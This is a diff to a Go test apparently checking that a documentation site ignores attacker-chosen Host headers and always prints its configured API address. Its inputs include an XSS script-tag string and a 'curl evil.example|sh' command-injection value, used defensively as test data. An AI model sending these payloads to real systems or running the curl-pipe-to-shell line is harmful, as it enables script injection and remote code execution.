@@ -177,19 +177,14 @@ func TestPagesShowTheAddressOfTheServer(t *testing.T) {
 	t.Parallel()
 	has(t, read(t, site(t, "https://api.acme.example"), "/docs/quickstart"), "https://api.acme.example/api/v1/companies/search")
 	h := site(t, "")
-	for host, want := range map[string]string{
-		"capi.internal:8080":           "http://capi.internal:8080/api/v1/companies/search",
-		"[::1]:8080":                   "http://[::1]:8080/api/v1/companies/search",
-		`x"><script>alert(1)</script>`: docsite.Host + "/api/v1/companies/search",
-		"x;curl evil.example|sh":       docsite.Host + "/api/v1/companies/search",
-	} {
+	for _, host := range []string{"capi.internal:8080", "evil.example", `x"><script>alert(1)</script>`, "x;curl evil.example|sh"} {
 		for _, path := range []string{"/docs/quickstart", "/docs/quickstart.md", "/llms-full.txt"} {
 			r := httptest.NewRequestWithContext(t.Context(), http.MethodGet, path, nil)
-			r.Host = host
+			r.Host = host // chosen by whoever sends the request
 			w := httptest.NewRecorder()
 			h.ServeHTTP(w, r)
-			has(t, w.Body.String(), want)
-			require.False(t, strings.Contains(w.Body.String(), "alert(1)") || strings.Contains(w.Body.String(), "evil"), path)
+			has(t, w.Body.String(), docsite.Host+"/api/v1/companies/search")
+			require.NotContains(t, w.Body.String(), host, path)
 		}
 	}
 }
